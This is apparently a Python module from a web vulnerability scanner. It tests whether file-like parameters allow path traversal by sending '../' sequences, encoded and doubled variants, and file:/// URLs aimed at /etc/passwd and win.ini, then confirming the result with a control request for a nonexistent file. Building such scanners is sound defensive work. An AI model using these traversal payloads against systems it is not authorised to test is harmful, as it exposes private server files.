"""A name of a file that leads out of its folder: what every system has comes back, and what none has does not."""

from __future__ import annotations

import base64
import re
from typing import Final

from ostiary.evidence import Answer
from ostiary.parts.seen.inputs import Input, words
from ostiary.parts.seen.proofs import Proven
from ostiary.parts.seen.trials import Trial

UP: Final = "../" * 9
KNOWN: Final = "etc/passwd"  # readable by everybody, and without secrets
NOBODYS: Final = "etc/ostiary-none"
WAYS: Final = (  # one check each that is commonly forgotten
    UP + "{file}",
    "/{file}",
    "....//" * 9 + "{file}",  # where "../" is taken out once
    ("..%2f" * 9) + "{file}",  # where it is decoded once more; the sender encodes the per cent sign
    "{folder}/" + UP + "{file}",
    "file:///{file}",
)
WINDOWS: Final = ("..\\" * 9 + "windows\\win.ini", "..\\" * 9 + "windows\\ostiary.ini")
_SIGN: Final = re.compile(r"\broot:[^:\s]{0,40}:0:0:")
_WINDOWS_SIGN: Final = re.compile(r"\[(?:fonts|extensions|mci extensions)\]", re.IGNORECASE)
_BASE64: Final = re.compile(r"[A-Za-z0-9+/]{60,}={0,2}")
_NAMES: Final = frozenset({
    "file", "files", "filename", "filepath", "path", "page", "doc", "document", "template", "view", "download", "dir", "directory",
    "folder", "include", "lang", "locale", "language", "img", "image", "picture", "photo", "resource", "module", "theme", "log",
    "report", "attachment", "src", "source", "asset", "key", "load", "read", "content", "layout", "media", "backup", "uri", "url",
})  # fmt: skip
_FOLDERS: Final = frozenset({
    "file", "files", "download", "downloads", "static", "assets", "docs", "documents", "images", "uploads", "media", "export", "logs",
    "backup", "backups", "templates", "attachments", "reports", "content", "avatars", "pages",
})  # fmt: skip


def may_be_file(at: Input) -> bool:
    """Whether a place names a file, by its name or by what its path is called."""
    return not _NAMES.isdisjoint(words(at.name)) or not _FOLDERS.isdisjoint(words(at.operation.path.replace("/", " ")))


async def proven(trial: Trial, valid: Answer) -> Proven | None:
    """Try each way out, and the same way to a file that is nowhere."""
    if not may_be_file(trial.at) or shows(valid):
        return None
    folder = trial.at.value.partition("/")[0] if "/" in trial.at.value else "."
    for way in WAYS:
        text, nothing = (way.format(file=file, folder=folder) for file in (KNOWN, NOBODYS))
        found = await _read(trial, text, nothing)
        if found is not None:
            return found
    return await _read(trial, *WINDOWS)


async def _read(trial: Trial, text: str, nothing: str) -> Proven | None:
    if not trial.at.fits(text):
        return None
    answer = await trial.put(text)
    if not shows(answer):
        return None
    other = await trial.put(nothing)
    if shows(other):
        return None
    proof = f"{text!r} came back with that file's contents, {nothing!r}, which is nowhere, did not"
    return Proven(
        trial.at,
        "file",
        proof,
        ((answer, "a file of the system"), (other, "a file that is nowhere")),
        more={"technique": "traversal"},
    )


def shows(answer: Answer) -> bool:
    """Whether a reply holds the well-known file, plain or in base64."""
    text = answer.text
    if _SIGN.search(text) or _WINDOWS_SIGN.search(text):
        return True
    for match in _BASE64.finditer(text[:200_000]):
        piece = match[0]
        if _SIGN.search(base64.b64decode(piece[: len(piece) // 4 * 4] + "").decode("latin-1")):
            return True
    return False
